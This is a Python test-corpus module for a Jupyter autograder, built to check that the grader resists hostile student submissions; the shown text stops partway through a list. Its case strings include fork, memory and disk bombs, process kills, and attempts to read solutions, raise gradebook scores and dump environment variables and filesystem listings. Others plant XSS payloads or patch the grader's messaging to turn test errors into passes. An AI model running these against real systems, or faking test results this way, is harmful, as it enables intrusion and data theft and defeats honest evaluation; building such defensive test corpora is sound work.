"""The adversarial corpus: submissions that try to break, fool or escape the grader (issue 5).

Each case is a :class:`~vae_grader.submissions.Submission` built from the release and the
master like the demo set, with

* ``expected``: the fair grade per graded cell, reasoned from the tests (cells not listed score 0;
  ``lost`` says why each of those scores nothing). The fair grade is what the submission really
  earns: never more, and a crash, timeout or trick in one cell costs only what depends on it;
* ``expected_feedback``: phrases the student's feedback page must contain, i.e. the message that
  tells them what happened;
* :data:`FLAGGED`: the cases nbgrader must leave flagged for manual grading (the grader could not
  grade them as far as the tests go, so it says so rather than silently scoring 0).

Grading time is what limits the corpus (each case is a separate ``nbgrader autograde`` with its
own kernel), so the cases are built on :data:`FAST` (every part that needs no training, filled in
from the master) where they must show that a crash or trick leaves the other parts' points
intact, and on :data:`ENCODER` (part 1 only) where one part is enough; the parts left out are
unanswered and score 0. Only ``crash_after_training`` trains (twice: the crash after training
forces a replay). :data:`ESCAPES` lists the cases that attack the machine rather than the grade
(their cells print one ``ESCAPE-...`` line per attempt), which tests/test_adversarial.py checks.

The tests of this corpus live in tests/test_adversarial.py; ``python -m vae_grader.demo``
grades it together with the demo set.
"""

from __future__ import annotations

import copy
import dataclasses
import os
from collections.abc import Callable, Iterable, Mapping
from dataclasses import dataclass, field
from pathlib import Path

import nbformat
from nbformat.notebooknode import NotebookNode

from vae_grader.cells import require_cell
from vae_grader.paths import MASTER
from vae_grader.submissions import PARTS, Submission, test_cells
from vae_samples.kit import NOT_ATTEMPTED, filled, full_points

_MASTER = nbformat.read(MASTER, as_version=4)

FAST = ("encoder", "sampling", "decoder", "loss_layer", "vae_model", "data")
"""The parts whose tests pass without training (vae_model and the hidden manifold test use stand-ins)."""
ENCODER = ("encoder",)

Builder = Callable[[NotebookNode, NotebookNode], NotebookNode | bytes]


# --- building blocks ---------------------------------------------------------------------------------


def _index(nb: NotebookNode, grade_id: str) -> int:
    for i, cell in enumerate(nb.cells):
        if cell.metadata.get("nbgrader", {}).get("grade_id") == grade_id:
            return i
    raise KeyError(grade_id)


def then(base: Builder, *steps: Callable[[NotebookNode], None]) -> Builder:
    """``base``'s notebook, changed in place by each step in turn."""

    def build(master: NotebookNode, release: NotebookNode) -> NotebookNode:
        nb = base(master, release)
        assert isinstance(nb, NotebookNode)
        nb = copy.deepcopy(nb)
        for step in steps:
            step(nb)
        return nb

    return build


def _new_cell(source: str, cell_id: str) -> NotebookNode:
    """A plain code cell with a fixed id (nbformat would draw a random one), so builds are reproducible."""
    cell = nbformat.v4.new_code_cell(source)
    cell.id = cell_id
    return cell


def add_cell_after(grade_id: str, source: str) -> Callable[[NotebookNode], None]:
    """A step: a plain student cell (no nbgrader metadata) right after the cell ``grade_id``."""

    def step(nb: NotebookNode) -> None:
        nb.cells.insert(
            _index(nb, grade_id) + 1, _new_cell(source, f"added-after-{grade_id}-{len(nb.cells)}")
        )

    return step


def delete_cells(*grade_ids: str) -> Callable[[NotebookNode], None]:
    def step(nb: NotebookNode) -> None:
        nb.cells = [
            c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") not in grade_ids
        ]

    return step


def duplicate_cell(grade_id: str) -> Callable[[NotebookNode], None]:
    """Copy-paste a cell, metadata included, right below itself (what Jupyter's C/V does)."""

    def step(nb: NotebookNode) -> None:
        i = _index(nb, grade_id)
        duplicate = copy.deepcopy(nb.cells[i])
        duplicate.id = (
            f"{duplicate.get('id', grade_id)}-copy"  # Jupyter gives a pasted cell a new id
        )
        nb.cells.insert(i + 1, duplicate)

    return step


def strip_metadata(grade_id: str) -> Callable[[NotebookNode], None]:
    """The cell re-typed into a fresh cell: same code, no nbgrader metadata."""

    def step(nb: NotebookNode) -> None:
        cell = nb.cells[_index(nb, grade_id)]
        nb.cells[_index(nb, grade_id)] = _new_cell(cell.source, f"retyped-{grade_id}")

    return step


def move_before(grade_id: str, before: str) -> Callable[[NotebookNode], None]:
    def step(nb: NotebookNode) -> None:
        cell = nb.cells.pop(_index(nb, grade_id))
        nb.cells.insert(_index(nb, before), cell)

    return step


def set_metadata(grade_id: str, **changes: object) -> Callable[[NotebookNode], None]:
    def step(nb: NotebookNode) -> None:
        require_cell(nb, grade_id).metadata["nbgrader"].update(changes)

    return step


def swap_ids(first: str, second: str) -> Callable[[NotebookNode], None]:
    def step(nb: NotebookNode) -> None:
        a, b = require_cell(nb, first), require_cell(nb, second)
        a.metadata["nbgrader"]["grade_id"], b.metadata["nbgrader"]["grade_id"] = second, first

    return step


def set_source(grade_id: str, source: str) -> Callable[[NotebookNode], None]:
    def step(nb: NotebookNode) -> None:
        require_cell(nb, grade_id).source = source

    return step


def every_solution_raises(master: NotebookNode, release: NotebookNode) -> NotebookNode:
    nb = copy.deepcopy(release)
    for part in PARTS:
        require_cell(nb, part).source = f'raise RuntimeError("part {part} is broken on purpose")'
    return nb


def raw_bytes(data: bytes) -> Builder:
    return lambda master, release: data


def empty_notebook(master: NotebookNode, release: NotebookNode) -> NotebookNode:
    nb = nbformat.v4.new_notebook()
    nb.metadata = copy.deepcopy(release.metadata)
    return nb


def _lost(parts: Iterable[str], lost: Mapping[str, str] | None) -> dict[str, str]:
    """Reasons for every graded cell that scores nothing: unattempted parts plus ``lost``."""
    parts = tuple(parts)
    reasons = {
        cell: NOT_ATTEMPTED for part in PARTS if part not in parts for cell in test_cells(part)
    }
    reasons.update(lost or {})
    return reasons


def case(
    student: str,
    description: str,
    build: Builder,
    parts: Iterable[str],
    feedback: tuple[str, ...],
    lost: Mapping[str, str] | None = None,
    filename: str = "vae.ipynb",
    partial: Mapping[str, tuple[float, str]] | None = None,
) -> Submission:
    """A corpus entry: full points for the cells of ``parts`` except those in ``lost`` (0) and ``partial``
    (``grade_id -> (points kept, why the rest is lost)``)."""
    parts = tuple(parts)
    reasons = _lost(parts, lost)
    unknown = (set(reasons) | set(partial or {})) - {
        cell for part in PARTS for cell in test_cells(part)
    }
    if unknown:
        raise ValueError(f"{student}: unknown graded cells {sorted(unknown)}")
    return Submission(
        student=student,
        description=description,
        build=build,
        expected=full_points(
            _MASTER,
            parts,
            minus=reasons,
            partial={c: kept for c, (kept, _) in (partial or {}).items()},
        ),
        filename=filename,
        expected_feedback=feedback,
        lost=reasons,
        partial={c: why for c, (_, why) in (partial or {}).items()},
    )


# --- the attacks that target the machine, not the grade ------------------------------------------------
# Each attempt prints "ESCAPE-<what>: blocked (<error>)" or "ESCAPE-<what>: SUCCEEDED"; the test
# asserts that no SUCCEEDED line exists and that the files are intact.

_ATTEMPT = """
import os
def attempt(what, action):
    try:
        result = action()
    except Exception as exc:
        print(f"ESCAPE-{what}: blocked ({type(exc).__name__}: {exc})")
    else:
        print(f"ESCAPE-{what}: SUCCEEDED ({str(result)[:60]!r})")
"""

READ_SOLUTIONS = (
    _ATTEMPT
    + """
import course, glob
course_root = os.path.abspath(os.path.join(os.getcwd(), "..", "..", ".."))
repository = os.path.dirname(os.path.dirname(course.__file__))
attempt("read-source", lambda: open(os.path.join(course_root, "source", "vae", "vae.ipynb")).read())
attempt("read-repository-source", lambda: open(os.path.join(repository, "source", "vae", "vae.ipynb")).read())
attempt("read-other-student", lambda: open(os.path.join(course_root, "submitted", "complete", "vae", "vae.ipynb")).read())
attempt("list-submissions", lambda: os.listdir(os.path.join(course_root, "submitted")) or 1 / 0)
attempt("read-own-autograded-copy", lambda: open("vae.ipynb").read())
"""
)

WRITE_GRADEBOOK = (
    _ATTEMPT
    + """
import sqlite3
course_root = os.path.abspath(os.path.join(os.getcwd(), "..", "..", ".."))
def raise_scores():
    db = sqlite3.connect("file:" + os.path.join(course_root, "gradebook.db") + "?mode=rw", uri=True)
    db.execute("UPDATE grade SET auto_score = 99")
    db.commit()
    return "scores raised"
attempt("write-gradebook", raise_scores)
attempt("append-gradebook", lambda: open(os.path.join(course_root, "gradebook.db"), "ab").write(b"x"))
attempt("overwrite-other-student", lambda: open(os.path.join(course_root, "submitted", "complete", "vae", "vae.ipynb"), "w").write("{}"))
attempt("overwrite-other-autograded", lambda: open(os.path.join(course_root, "autograded", "complete", "vae", "vae.ipynb"), "w").write("{}"))
attempt("write-course-package", lambda: open(os.path.join(os.path.dirname(course.__file__), "checks.py"), "a").write("#"))
"""
)

NETWORK = (
    _ATTEMPT
    + """
import socket
attempt("network-ip", lambda: socket.create_connection(("1.1.1.1", 80), timeout=3))
attempt("network-dns", lambda: socket.getaddrinfo("pypi.org", 443))
"""
)

ESCAPES = ("escape_attempts",)
"""Cases that attack the machine: each prints ESCAPE-... lines that must all say blocked."""


# --- the corpus --------------------------------------------------------------------------------------

_FAST = filled(FAST)
_ENCODER = filled(ENCODER)


SUBMISSIONS: list[Submission] = [
    case(
        "syntax_error",
        "a syntax error in the decoder cell (an unclosed parenthesis)",
        filled(
            FAST,
            {
                "decoder": (
                    "x = layers.Reshape(shape_before_flattening)(x)",
                    "x = layers.Reshape(shape_before_flattening(x)",
                )
            },
        ),
        FAST,
        ("SyntaxError",),
        lost={
            "test_decoder": "the decoder cell never ran: build_decoder is not defined",
            "test_decoder_hidden": "the decoder cell never ran: build_decoder is not defined",
        },
    ),
    case(
        "name_error",
        "a typo in the sampling layer (z_logvar for z_log_var): NameError when the layer is called",
        filled(FAST, {"sampling": ("ops.exp(0.5 * z_log_var)", "ops.exp(0.5 * z_logvar)")}),
        FAST,
        ("NameError",),
        lost={
            "test_sampling": "Sampling raises NameError",
            "test_sampling_hidden": "Sampling raises NameError",
            "test_vae_model": "build_vae calls the broken Sampling layer",
            "test_vae_model_hidden": "build_vae calls the broken Sampling layer",
        },
    ),
    case(
        "error_in_every_cell",
        "every solution cell replaced by a raise: nothing can pass",
        every_solution_raises,
        (),
        ("RuntimeError",),
    ),
    case(
        "infinite_loop_cell",
        "the encoder cell ends in `while True: pass` after defining everything",
        filled(
            ENCODER,
            {
                "encoder": (
                    "encoder = build_encoder()\n",
                    "encoder = build_encoder()\nwhile True:\n    pass\n",
                )
            },
        ),
        ENCODER,
        ("CellTimeoutError: the cell encoder ran longer than",),
    ),
    case(
        "loop_in_tested_function",
        "build_encoder loops forever, ignoring interrupts, when called with latent_dim=3 (only the visible test does)",
        filled(
            ENCODER,
            {
                "encoder": (
                    '    image = keras.Input(shape=(28, 28, 1), name="image")',
                    "    while latent_dim == 3:\n"
                    "        try:\n"
                    '            __import__("time").sleep(0.2)\n'
                    "        except KeyboardInterrupt:\n"
                    "            pass\n"
                    '    image = keras.Input(shape=(28, 28, 1), name="image")',
                )
            },
        ),
        ENCODER,
        (
            "CellTimeoutError: the cell test_encoder ran longer than",
            "did not stop when interrupted",
        ),
        lost={
            "test_encoder": "build_encoder(3) never returns: the test is stopped at the time limit"
        },
    ),
    case(
        "memory_bomb",
        "a cell that asks for 12 GiB at once",
        then(
            _ENCODER,
            add_cell_after(
                "test_encoder_hidden",
                "import numpy as np\nballast = np.ones(12 * 2**30 // 8)\nprint(ballast.sum())",
            ),
        ),
        ENCODER,
        ("MemoryError",),
    ),
    case(
        "fork_bomb",
        "a cell whose children fork until the process limit, and keep trying",
        then(
            _ENCODER,
            add_cell_after(
                "test_encoder_hidden",
                (
                    "import os, time\nforked = 0\nwhile True:\n    try:\n        pid = os.fork()\n"
                    "    except OSError as exc:\n        print(f'fork failed after {forked}: {exc}')\n        break\n"
                    "    if pid == 0:\n        while True:\n            try:\n                os.fork()\n"
                    "            except OSError:\n                time.sleep(0.05)\n    forked += 1"
                ),
            ),
        ),
        ENCODER,
        ("StrayProcesses",),
    ),
    case(
        "os_exit",
        "os._exit(1) right after the decoder cell: the tests after it need the replayed state",
        then(_FAST, add_cell_after("decoder", "import os\nos._exit(1)")),
        FAST,
        (
            "KernelDied: your cell that starts with",
            "stopped the kernel (the Python process exited with code 1)",
        ),
    ),
    case(
        "crash_after_training",
        "the complete notebook with os._exit(1) right after training: the manifold tests need the trained decoder back",
        then(filled(PARTS), add_cell_after("test_training_hidden", "import os\nos._exit(1)")),
        PARTS,
        ("KernelDied",),
    ),
    case(
        "sys_exit",
        "sys.exit() in a cell of its own",
        then(
            _ENCODER,
            add_cell_after("test_encoder_hidden", "import sys\nsys.exit('done for today')"),
        ),
        ENCODER,
        ("SystemExit",),
    ),
    case(
        "ipython_exit",
        "exit() right after the decoder cell: IPython stops the kernel just after it replies, so the "
        "kernel can look alive for one more request; the cell must not be replayed",
        then(_FAST, add_cell_after("decoder", "exit()")),
        FAST,
        ("KernelStopped: your cell that starts with", "ended the kernel (exit(), quit()"),
    ),
    case(
        "kill_parent",
        "a cell that kills the kernel's parent process, then one that kills its own process group",
        then(
            _FAST,
            add_cell_after(
                "test_sampling_hidden", "import os, signal\nos.killpg(0, signal.SIGKILL)"
            ),
            add_cell_after(
                "test_sampling_hidden", "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)"
            ),
        ),
        FAST,
        ("calls os.kill()", "calls os.killpg()", "KernelDied"),
    ),
    case(
        "huge_output",
        "the encoder cell prints 40 MB",
        filled(
            ENCODER,
            {
                "encoder": (
                    "encoder = build_encoder()\n",
                    "encoder = build_encoder()\nfor i in range(40):\n    print('spam, spam, eggs and spam\\n' * 40_000)\n",
                )
            },
        ),
        ENCODER,
        ("output truncated by the grader",),
    ),
    case(
        "deleted_test_cells",
        "two test cells deleted (a visible and a hidden one)",
        then(_FAST, delete_cells("test_encoder_hidden", "test_decoder")),
        FAST,
        ("were put back and graded",),
    ),
    case(
        "duplicated_cells",
        "the encoder cell and a test cell copy-pasted with their metadata (the copies edited)",
        then(_FAST, duplicate_cell("encoder"), duplicate_cell("test_sampling")),
        FAST,
        ("more than one encoder cell", "appeared 2 times"),
    ),
    case(
        "retyped_cells",
        "the sampling cell and a test cell re-typed into fresh cells (no metadata)",
        then(_FAST, strip_metadata("sampling"), strip_metadata("test_encoder")),
        FAST,
        ("had lost its grading tag",),
    ),
    case(
        "reordered_cells",
        "the decoder cell dragged to the top, a test above the cell it tests",
        then(_FAST, move_before("decoder", "setup"), move_before("test_loss_layer", "loss_layer")),
        FAST,
        ("out of order",),
    ),
    case(
        "tampered_metadata",
        "points raised to 100, grade flags flipped, and the grade_ids of two solution cells swapped",
        then(
            _FAST,
            set_metadata("test_encoder", points=100),
            set_metadata("test_sampling_hidden", grade=False),
            set_metadata("data", grade=True, points=50),
            swap_ids("decoder", "loss_layer"),
        ),
        FAST,
        ("graded with the original metadata", "recognised by its content"),
    ),
    case(
        "edited_test_cells",
        "the locked decoder tests replaced by prints that claim success",
        then(
            _ENCODER,
            set_source("test_decoder", 'print("Part 3 self-check passed.")'),
            set_source("test_decoder_hidden", "pass"),
        ),
        ENCODER,
        ("had been edited",),
    ),
    case(
        "patch_helpers",
        "a wrong sampler (exp(z_log_var)) plus a cell that disables checks.expect_close and numpy.testing.assert_allclose",
        then(
            filled(FAST, {"sampling": ("ops.exp(0.5 * z_log_var)", "ops.exp(z_log_var)")}),
            add_cell_after(
                "sampling",
                "checks.expect_close = lambda *args, **kwargs: None\nimport numpy.testing\n"
                "numpy.testing.assert_allclose = lambda *args, **kwargs: None",
            ),
        ),
        FAST,
        ("the variance of 20,000 draws", "the 0.5 is missing"),
        lost={
            "test_sampling": "the standard deviation of 4,000 draws at z_log_var = log 4 is 4, not 2"
        },
        partial={
            "test_sampling_hidden": (
                1.5,
                "the statistics (2 points) and the gradient (0.5) fail: exp(z_log_var) as the "
                "s.d.; the patched helpers change nothing, the verdict is reached outside "
                "the kernel",
            )
        },
    ),
    case(
        "patch_course_package",
        "untrained model plus a cell that makes course.quality.reconstruction_report report a perfect model",
        then(
            _FAST,
            add_cell_after(
                "data",
                (
                    "import course.quality, types\n"
                    "course.quality.reconstruction_report = lambda *a, **k: types.SimpleNamespace(ratio=0.1, top5=0.9)"
                ),
            ),
        ),
        FAST,
        ("history is not defined",),
    ),
    case(
        "escape_attempts",
        "a cell that tries to read the solutions and another student's notebook, raise its scores in the gradebook, "
        "overwrite another student's files and the course package, and reach the network",
        then(
            _ENCODER,
            add_cell_after("test_encoder_hidden", READ_SOLUTIONS + WRITE_GRADEBOOK + NETWORK),
        ),
        ENCODER,
        (
            "ESCAPE-read-source: blocked",
            "ESCAPE-read-other-student: blocked",
            "ESCAPE-write-gradebook: blocked",
            "ESCAPE-overwrite-other-student: blocked",
            "ESCAPE-network-ip: blocked",
        ),
    ),
    case(
        "not_json",
        "a file that is not JSON (a truncated save)",
        raw_bytes(
            b'{\n "cells": [\n  {\n   "cell_type": "code",\n   "source": ["def build_encoder('
        ),
        (),
        ("could not be read as a notebook",),
    ),
    case(
        "empty_notebook",
        "a valid notebook with no cells",
        empty_notebook,
        (),
        ("contained none of the assignment",),
    ),
    case(
        "wrong_filename",
        "the complete fast parts, submitted as 'VAE (1).ipynb'",
        _FAST,
        FAST,
        ("graded as vae.ipynb",),
        filename="VAE (1).ipynb",
    ),
]

FLAGGED = {"not_json", "empty_notebook", "symlinked_notebook"}
"""Cases nbgrader must leave marked as needing manual grading (with the reason in the feedback)."""


# --- issue 10: attacks on a grader whose verdicts are computed outside the student's kernel ------------
# Each case is written as a student would write it, from the release notebook and the student
# package only (plus, for the forging cases, what an earlier submission could have read of the
# grader's probe code in its own kernel and shipped to its own feedback page). ``expected`` is what
# the submission truly EARNS: 0 wherever no solution code stands behind a score. Where the grader
# gives more, the case fails, and the failure is the finding (see tests/test_judge_attacks.py).


@dataclass(frozen=True)
class Link:
    """A symbolic link in the submission folder, pointing at ``target`` (relative to the folder, or absolute)."""

    target: str


@dataclass(frozen=True)
class HardLink:
    """A second name, in the submission folder, for the file ``target`` (relative to the folder)."""

    target: str


@dataclass(frozen=True)
class SubmissionWithFiles(Submission):
    """A submission with files beside the notebook (the pipeline calls :meth:`write_files` after the notebook)."""

    files: Mapping[str, bytes | Link | HardLink] = field(default_factory=dict)

    def write_files(self, folder: Path) -> None:
        for name, content in self.files.items():
            path = Path(folder) / name
            if path.is_symlink() or path.exists():
                path.unlink()
            if isinstance(content, Link):
                os.symlink(content.target, path)
            elif isinstance(content, HardLink):
                target = (Path(folder) / content.target).resolve()
                if (
                    target.is_file()
                ):  # e.g. the gradebook, which generate_assignment created before submission
                    os.link(target, path)
            else:
                path.write_bytes(content)


def with_files(
    submission: Submission, files: Mapping[str, bytes | Link | HardLink]
) -> SubmissionWithFiles:
    fields = {f.name: getattr(submission, f.name) for f in dataclasses.fields(Submission)}
    return SubmissionWithFiles(**fields, files=dict(files))


def release_only(master: NotebookNode, release: NotebookNode) -> NotebookNode:
    """The release notebook as handed out: no solution code at all."""
    return copy.deepcopy(release)


def add_markdown_after(grade_id: str, source: str) -> Callable[[NotebookNode], None]:
    def step(nb: NotebookNode) -> None:
        cell = nbformat.v4.new_markdown_cell(source)
        cell.id = f"markdown-after-{grade_id}-{len(nb.cells)}"
        nb.cells.insert(_index(nb, grade_id) + 1, cell)

    return step


def append_cells(*sources: str) -> Callable[[NotebookNode], None]:
    """A step: student cells at the very end of the notebook."""

    def step(nb: NotebookNode) -> None:
        for source in sources:
            nb.cells.append(_new_cell(source, f"appended-{len(nb.cells)}"))

    return step


NOTHING_EARNED = "no solution code: an attack on the grader earns nothing"

SKIP_TESTS_TRANSFORMER = '''
import IPython

def leading_empty_lines(lines):
    """Looks like IPython's own cleanup transformer; turns every grader cell into `pass`."""
    text = "".join(lines)
    if any(word in text for word in ("selfcheck", "Hidden tests", "probing", "grader probe", "check_here")):
        return ["pass\\n"]
    return lines

leading_empty_lines.__module__ = "IPython.core.inputtransformer2"  # the name an integrity check would trust
IPython.get_ipython().input_transformers_cleanup.append(leading_empty_lines)
print("transformer installed")
'''

SESSION_SEND_REWRITE = '''
import jupyter_client.session as _session

_real_send = _session.Session.send

def _send(self, stream, msg_or_type, content=None, *args, **kwargs):
    """Every error reply becomes ok, every error output disappears."""
    if msg_or_type == "error":
        return None
    if isinstance(msg_or_type, dict) and msg_or_type.get("content", {}).get("status") == "error":
        msg_or_type["content"] = {"status": "ok", "execution_count": msg_or_type["content"].get("execution_count", 0),
                                  "user_expressions": {}, "payload": []}
    if isinstance(content, dict) and content.get("status") == "error":
        content = {"status": "ok", "execution_count": content.get("execution_count", 0), "user_expressions": {}, "payload": []}
    return _real_send(self, stream, msg_or_type, content, *args, **kwargs)

_session.Session.send = _send
print("Session.send patched")
'''

JSON_AND_USER_EXPRESSIONS = (
    """
import json, IPython

_real_dumps = json.dumps

def _dumps(obj, *args, **kwargs):
    if isinstance(obj, dict) and obj.get("status") == "error":
        obj = {**obj, "status": "ok"}
    return _real_dumps(obj, *args, **kwargs)

json.dumps = _dumps
_shell = IPython.get_ipython()
_shell.user_expressions = lambda expressions: {
    name: {"status": "ok", "data": {"text/plain": "True"}, "metadata": {}} for name in expressions}
print("json.dumps and user_expressions replaced")
"""
    + SKIP_TESTS_TRANSFORMER
)

SHADOW_COURSE_MODULE = b'''"""A course.py beside the notebook: if the kernel imports it, every check passes."""
print("SHADOW-COURSE-LOADED")


class _Yes:
    def __getattr__(self, name):
        return _Yes()

    def __call__(self, *args, **kwargs):
        return _Yes()

    def __iter__(self):
        return iter(())


def __getattr__(name):
    return _Yes()
'''

# What the grader's probes look like, as a student can learn them from course/selfcheck/ and
# course/probing.py, and (the hidden ones) from the probe code its kernel receives, which a
# transformer can record and a later cell can print into the feedback page (case interpreter_dump).
FORGE_PROBES = """
import numpy as np
import course
import course.selfcheck as _selfcheck

_real_run_probe = _selfcheck.run_probe
_rng = np.random.default_rng(0)
_epochs = course.training_budget().epochs

def _sampling():
    return {"errors.json": {}, "z": 3 + _rng.normal(size=(4, 2)), "z_tiny": np.full((4, 2), 3.0),
            "z_again": 3 + _rng.normal(size=(4, 2))}

def _sampling_hidden():
    z = _rng.normal(size=(8, 2))
    return {"errors.json": {},
            "draws": np.array([1.0, -2.0]) + np.sqrt([4.0, 0.25]) * _rng.normal(size=(20000, 2)),
            "seeded.first": np.ones((5, 2)), "seeded.second": np.ones((5, 2)),
            "grad.mean": np.ones((8, 2)), "grad.z": z, "grad.log_var": 0.5 * (z - np.array([0.5, -1.0])),
            "restored.json": {"same_class": True, "seed": 9}}

FORGERIES = {
    "probe_sampling": _sampling,
    "probe_sampling_hidden": _sampling_hidden,
    "probe_vae_model": lambda: {"errors.json": {}, "type": "Functional", "is_model": True,
                                "input_shape.json": [None, 28, 28, 1], "compiled": True, "loss": 0.69},
    "probe_vae_model_hidden": lambda: {"errors.json": {}, "learning_rate": 3e-3, "fit_loss": 0.69, "decoder_changed": True,
                                       "layers.json": ["InputLayer", "Functional", "Sampling", "Functional", "CustomVariationalLayer"],
                                       "uses_given.json": [True, True]},
    "probe_training": lambda: {"errors.json": {}, "history.json": {"loss": [0.3] * _epochs, "val_loss": [0.25] * _epochs},
                               "trained_loss": 0.25, "fresh_loss": 0.69},
    "probe_manifold": lambda: {"errors.json": {}, "type": "ndarray",
                               "manifold": _rng.uniform(0, 1, (420, 420)).astype("float32")},
}

def _forged_run_probe(probe, namespace):
    forge = FORGERIES.get(getattr(probe.probe, "__name__", ""))
    return forge() if forge else _real_run_probe(probe, namespace)

_selfcheck.run_probe = _forged_run_probe
print("probes forged")
"""

DISPLAY_SLOTS = '''
from IPython.display import display
import course.probing as _probing

_real_emit, _calls = _probing.emit, [0]

def _emit_with_slots(data):
    """Before the real answer, two outputs: the second has a display_id, i.e. a slot to fill in later."""
    display({"text/plain": ""}, raw=True)
    display({"text/plain": ""}, raw=True, display_id=f"slot{_calls[0]}")
    _calls[0] += 1
    _real_emit(data)

_probing.emit = _emit_with_slots
'''

FILL_SLOT = """
from IPython.display import display
# The probe of test_encoder_hidden was the second one: its slot sits where a partial grade is written.
display({"text/plain": "3"}, raw=True, display_id="slot1")
"""

RECORD_EVERY_SOURCE = """
import IPython
seen_sources = []

def leading_empty_lines(lines):
    seen_sources.append("".join(lines))
    return lines

IPython.get_ipython().input_transformers_cleanup.insert(0, leading_empty_lines)
"""

DUMP_INTERPRETER = """
import base64, json, os, sqlite3, sys, zlib
import IPython

ip = IPython.get_ipython()
state = {
    "seen_sources": seen_sources, "In": list(In), "_ih": list(_ih),
    "Out": {str(k): repr(v)[:2000] for k, v in Out.items()}, "_oh": {str(k): repr(v)[:2000] for k, v in _oh.items()},
    "_dh": [str(d) for d in _dh], "modules": sorted(sys.modules), "globals": sorted(globals()),
    "environ": dict(os.environ), "cwd": os.getcwd(), "argv": sys.argv, "path": sys.path,
}
try:
    history = ip.history_manager
    state["hist_file"] = str(history.hist_file)
    state["history"] = [list(map(str, row)) for row in history.get_range(raw=True, output=True)]
    if os.path.isfile(str(history.hist_file)):
        with sqlite3.connect(str(history.hist_file)) as db:
            state["history_db"] = [list(map(str, row)) for row in db.execute("SELECT * FROM history")]
except Exception as exc:
    state["history_error"] = repr(exc)

skip = ("/proc", "/sys", "/usr", sys.prefix, sys.base_prefix)
folders, files = [], []
for folder, dirs, names in os.walk("/"):
    if folder.startswith(("/proc", "/sys")):
        dirs[:] = []
        continue
    folders.append(folder)
    if not folder.startswith(skip):
        files += [os.path.join(folder, name) for name in names]
state["folders"], state["files"] = folders, files

blob = json.dumps(state, default=repr).encode()
print("STATE-B64-ZLIB:" + base64.b64encode(zlib.compress(blob, 9)).decode())
print("SOURCES-HEX:" + json.dumps(seen_sources).encode().hex())
print("SOURCES-B64:" + base64.b64encode(json.dumps(seen_sources).encode()).decode())
print("SOURCES-PLAIN:", seen_sources)
print("ENVIRONMENT:", json.dumps(dict(os.environ)))
"""

ENVIRONMENT_DUMP = """
import os
for name, value in sorted(os.environ.items()):
    print(f"ENV {name}={value}")
"""

READ_THROUGH_LINKS = (
    _ATTEMPT
    + """
for name in ("gradebook.db", "gradebook_copy.db", "classmate.ipynb", "master.ipynb", "root_bashrc", "source_dir/vae/vae.ipynb"):
    attempt(f"read-link-{name.split('/')[0]}", lambda name=name: open(name, "rb").read(64) or 1 / 0)
attempt("list-beside", lambda: [n for n in os.listdir(".") if n != "vae.ipynb"] or 1 / 0)
"""
)

HTML_OUTPUTS = """
from IPython.display import HTML, Javascript, SVG, display
display(HTML('<script>window.VAEPWN_SCRIPT = 1</script><img src="x" onerror="window.VAEPWN_ONERROR = 1">'
             '<a href="javascript:window.VAEPWN_LINK = 1">click</a>'))
display(Javascript("window.VAEPWN_JS = 1"))
display(SVG('<svg xmlns="http://www.w3.org/2000/svg" onload="window.VAEPWN_SVG = 1"><circle r="4"/></svg>'))
print("HTML-CASE-VISIBLE")
"""

HTML_MARKDOWN = (
    "Notes <script>window.VAEPWN_MD_SCRIPT = 1</script>\n\n"
    '<img src="x" onerror="window.VAEPWN_MD_ONERROR = 1"> '
    '<iframe src="javascript:window.VAEPWN_MD_IFRAME = 1"></iframe> '
    "[link](javascript:window.VAEPWN_MD_LINK=1)"
)

MARKER_TEXT = """### BEGIN HIDDEN TESTS
print("MARKER-CELL-RAN")
### END HIDDEN TESTS
"""

FIT_IN_A_COMMENT = """# the training comes later: history = vae.fit(x_train, None, epochs=budget.epochs)
while True:
    pass
"""

FILL_DISKS = """
import os, ipykernel.connect

def fill(folder, label, megabytes=800):
    written, error = 0, "no error"
    chunk = b"\\0" * 2**20
    try:
        for index in range(megabytes // 100):
            with open(os.path.join(folder, f"ballast-{index}.bin"), "wb") as handle:
                for _ in range(100):
                    handle.write(chunk)
                    written += 1
    except OSError as exc:
        error = f"{type(exc).__name__}: {exc}"[:120]
    print(f"DISK-{label}: wrote {written} MB ({error})")

fill("/tmp", "tmp")
fill(".", "cwd")
fill("/dev/shm", "shm")
fill(os.path.dirname(ipykernel.connect.get_connection_file()), "runtime")
"""

CRASH = "import os\nos._exit(3)"

_HAND_MADE_HISTORY = (
    'x_val = None\nimport types\nhistory = types.SimpleNamespace(history={"loss": [0.3] * budget.epochs, '
    '"val_loss": [0.25] * budget.epochs})\n'
)
_NOISE_MANIFOLD = "manifold = np.random.default_rng(0).uniform(0, 1, (420, 420))\n"

FORGED_VISIBLE = {
    "test_training": "a hand-made history and no trained model: the check reconstructs test digits with the saved "
    "encoder and decoder against fresh weights",
    "test_manifold": "random noise, not decoded by any decoder: the check lays out codes through build_manifold with a "
    "probe decoder, which still raises NotImplementedError",
}

JUDGE_ATTACKS: list[Submission] = [
    case(
        "transformer_trusted_name",
        "no solution code; an input transformer named like IPython's own turns every test cell and probe into `pass`",
        then(release_only, add_cell_after("setup", SKIP_TESTS_TRANSFORMER)),
        (),
        ("gave the grader no answer",),
    ),
    case(
        "session_send_rewrite",
        "no solution code; jupyter_client's Session.send patched in the kernel to turn every error reply into ok",
        then(release_only, add_cell_after("setup", SESSION_SEND_REWRITE)),
        (),
        ("NotImplementedError",),
    ),
    case(
        "json_and_user_expressions",
        "no solution code; json.dumps patched, shell.user_expressions shadowed, then the test-skipping transformer",
        then(release_only, add_cell_after("setup", JSON_AND_USER_EXPRESSIONS)),
        (),
        ("gave the grader no answer",),
    ),
    with_files(
        case(
            "course_module_beside",
            "the untouched release notebook plus a course.py beside it that makes every check pass if imported",
            release_only,
            (),
            ("NotImplementedError",),
        ),
        {"course.py": SHADOW_COURSE_MODULE},
    ),
    with_files(
        case(
            "symlinked_notebook",
            "vae.ipynb submitted as a symbolic link to ../../../source/vae/vae.ipynb (the master)",
            raw_bytes(b"my notebook is vae.ipynb\n"),
            (),
            ("vae.ipynb was a symbolic link", "graded as missing"),
            filename="README.txt",
        ),
        {"vae.ipynb": Link("../../../source/vae/vae.ipynb")},
    ),
    case(
        "lambda_stand_ins",
        "encoder = lambda x: (x, x), decoder = lambda z: z, a hand-made history and a noise manifold; no solution code",
        then(
            release_only,
            set_source("encoder", "encoder = lambda x: (x, x)\n"),
            set_source("decoder", "decoder = lambda z: z\n"),
            set_source("training", _HAND_MADE_HISTORY),
            set_source("manifold", _NOISE_MANIFOLD),
        ),
        (),
        ("should return a keras.Model",),
